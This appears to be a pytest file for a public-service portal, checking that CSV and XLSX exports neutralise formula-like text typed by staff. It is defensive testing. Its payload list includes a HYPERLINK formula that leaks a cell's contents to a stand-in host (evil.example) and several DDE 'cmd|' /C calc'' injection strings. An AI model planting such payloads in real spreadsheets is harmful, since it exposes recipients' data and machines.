"""Issue 14 item 4: text typed by staff never becomes a live formula in a CSV or XLSX export.

A service, an extra SKM unsur, a unit and an evaluator's reason named like a formula go through every
export (public and staff SKM CSV/XLSX, PEKPPP CSV/XLSX): the CSV cell carries a leading apostrophe
(OWASP), the XLSX cell is a string cell that reads back as the exact text; numbers stay numbers. A guard
fails when a module writes CSV or builds a workbook without `portal.spreadsheets`.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from evaluation_link.queries import assessments as evaluation_queries
from portal import spreadsheets
from surveys import queries
from surveys.responses import ParsedResponse
from surveys.services import followup as followup_service
from surveys.services import periods as period_service
from surveys.services.responses import record_response
from tests.evaluation_link.factories import make_complaint
from tests.evaluation_link.factories import make_service as make_evaluated_service
from tests.helpers import ROOT, login, make_unit, make_user, post_form
from tests.surveys.factories import make_period, make_service

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik untuk detail")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> list:
    cells = xlsx_cells(content)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"formula cells in the export: {formulas}"
    return cells


# --- the shared place -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_neutralised_in_csv_and_xlsx(payload: str) -> None:
    rows = read_csv(spreadsheets.csv_text([["layanan", "nilai"], [payload, 4]]).encode())
    assert rows[1] == ["'" + payload, "4"]

    workbook = spreadsheets.new_workbook(write_only=True)
    sheet = workbook.create_sheet("uji")
    spreadsheets.append_row(sheet, [payload, 4])
    cells = assert_no_formula(spreadsheets.xlsx_bytes(workbook))
    # the exact text, as text (XML turns a carriage return into a line feed on the way)
    assert cells[0].value == payload.replace("\r", "\n") and cells[0].data_type == "s"
    assert cells[0].quotePrefix  # stays text when someone edits the cell
    assert cells[1].value == 4 and cells[1].data_type == "n"


@pytest.mark.parametrize("number", [-5, -1.25, Decimal("-2.50"), 0, 87.5])
def test_numbers_stay_numbers(number) -> None:
    assert read_csv(spreadsheets.csv_text([[number]]).encode()) == [[str(number)]]
    workbook = spreadsheets.new_workbook()
    spreadsheets.append_row(workbook.active, [number, "Akta kelahiran", "e-KTP", "Rp -", None])
    cells = xlsx_cells(spreadsheets.xlsx_bytes(workbook))
    assert cells[0].data_type == "n" and cells[0].value == float(number)
    assert [c.value for c in cells[1:4]] == ["Akta kelahiran", "e-KTP", "Rp -"]  # ordinary text untouched


def test_every_csv_or_xlsx_writer_goes_through_portal_spreadsheets() -> None:
    """A future export (complaints, LAPOR!, ...) cannot bypass the neutralisation by accident."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import .*\bWorkbook\b")
    offenders = []
    for package in ("portal", "complaints", "surveys", "evaluation_link"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "portal" / "spreadsheets.py":
                continue
            for number, line in enumerate(path.read_text().splitlines(), start=1):
                if writers.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}")
    assert offenders == [], f"write CSV/XLSX with portal.spreadsheets: {offenders}"
    assert Path(spreadsheets.__file__).name == "spreadsheets.py"


# --- SKM exports (public and staff) -----------------------------------------------------------------------------


async def skm_period_named_like_formulas() -> dict:
    unit_id = await make_unit("dinas-rumus", "Dinas Rumus")
    service_id = await make_service(unit_id, "layanan-rumus", HYPERLINK)
    period = await make_period(unit_id, population=5)
    await period_service.add_extra_unsur(period["id"], name="@SUM(1+1)*cmd|' /C calc'!A0", question="Bagaimana?")
    extra = (await queries.extra_unsur(period["id"]))[0]
    for value in (4, 3):
        answers = {f"u{i}": value for i in range(1, 10)}
        await record_response(period, ParsedResponse(answers=answers, extra={extra["id"]: value},
                                                     service_id=service_id), channel="paper")  # fmt: skip
    await followup_service.set_publication(period["id"], published=True, report_date=None, accepting=True, actor=None)
    return await queries.get_period(period["id"])


async def test_skm_exports_public_and_staff_carry_formulas_as_text(client) -> None:
    period = await skm_period_named_like_formulas()
    public = f"/survei/hasil/dinas-rumus/{period['id']}"
    staff = f"/staf/survei/{period['id']}/laporan/"
    await make_user("admin.rumus", "unit_admin", period["unit"])

    for who in ("public", "staff"):
        if who == "staff":
            await login(client, "admin.rumus")
        csv_url, xlsx_url = (f"{public}.csv", f"{public}.xlsx") if who == "public" else (f"{staff}csv", f"{staff}xlsx")
        answers = read_csv((await client.get(csv_url)).content)
        assert answers[0][2] == "layanan" and answers[1][2] == "'" + HYPERLINK, who
        assert answers[1][4] == "4", who  # the answers are untouched
        cells = assert_no_formula((await client.get(xlsx_url)).content)
        texts = [c.value for c in cells if c.data_type == "s"]
        assert HYPERLINK in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts, who
        assert any(c.value == 4 and c.data_type == "n" for c in cells), who


# --- PEKPPP exports ---------------------------------------------------------------------------------------------


async def test_pekppp_exports_carry_formulas_as_text(client) -> None:
    from datetime import UTC, datetime

    unit = await make_unit("dinas-eval-rumus", name=HYPERLINK)
    await make_evaluated_service(unit, reviewed_on=datetime(2026, 5, 1).date())
    await make_complaint(unit, datetime(2026, 2, 3, 3, 0, tzinfo=UTC), status="closed", reply_after=5, close_after=40)
    await make_user("evaluator.rumus", "evaluator")
    await login(client, "evaluator.rumus")
    await post_form(client, "/staf/evaluasi/dinas-eval-rumus/2026/tarik", {})
    reason = "-1+cmd|' /C calc'!A0 bukti diperiksa"
    saved = await post_form(client, "/staf/evaluasi/dinas-eval-rumus/2026/indikator/28",
                            {"evaluator_score": "4", "override_reason": reason})  # fmt: skip
    assert saved.status_code == 303
    view = await evaluation_queries.sheet_for("dinas-eval-rumus", 2026)
    assert view.indicator_view(28).row["override_reason"] == reason

    table = read_csv((await client.get("/staf/evaluasi/dinas-eval-rumus/2026.csv")).content)
    cells = [cell for row in table for cell in row]
    assert "'" + HYPERLINK in cells and "'" + reason in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)

    cells = assert_no_formula((await client.get("/staf/evaluasi/dinas-eval-rumus/2026.xlsx")).content)
    texts = [c.value for c in cells if c.data_type == "s"]
    assert HYPERLINK in texts and reason in texts
    assert any(c.data_type == "n" and c.value == 4 for c in cells)  # the evaluator's score is a number
